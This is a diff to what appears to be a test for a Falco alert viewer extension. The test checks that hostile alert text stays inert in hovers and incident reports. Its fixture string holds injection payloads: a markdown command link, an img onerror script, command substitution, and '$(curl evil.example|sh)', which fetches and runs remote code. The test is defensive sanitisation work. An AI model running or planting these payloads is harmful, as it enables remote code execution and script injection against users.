@@ -77,7 +77,8 @@ test('a hostile alert inside the Docker wrapper stays inert in hovers and the re
     assert.deepEqual(hostileProblems(md(s.hover!(alertDoc('d.log', text), { line: 7, character: col + 1 }))), [], needle);
   }
   const report = s.report(text, 'file:///logs/d.log');
-  assert.match(report, /^# Falco incident report\n\n4 alerts from/);
+  // The log is not in time order: the summary spans the earliest to the latest dated alert.
+  assert.match(report, /^# Falco incident report\n\n4 alerts from `d\.log`, `2024-06-10 14:45:13\.552380417 UTC` to `2024-06-10 14:47:07\.118224033 UTC`/);
   assert.deepEqual(hostileProblems(report), []);
   assert.ok(report.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'") || !report.includes('$(curl evil'));
 });
